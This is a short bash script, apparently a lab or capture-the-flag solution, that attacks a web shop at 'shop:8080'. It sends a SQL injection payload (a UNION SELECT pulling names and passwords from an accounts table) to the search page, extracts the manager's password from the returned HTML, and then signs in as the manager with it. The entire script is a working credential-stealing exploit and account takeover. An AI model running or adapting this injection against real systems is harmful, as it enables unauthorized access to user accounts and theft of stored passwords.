#!/bin/bash
password=$(curl -s -G --data-urlencode "q=zzz' UNION SELECT name, password FROM accounts -- " \
    http://shop:8080/search | sed -n 's/.*<li>manager: \(.*\)<\/li>.*/\1/p')
curl -s -o /dev/null -d 'name=manager' --data-urlencode "password=$password" \
    http://shop:8080/sign-in
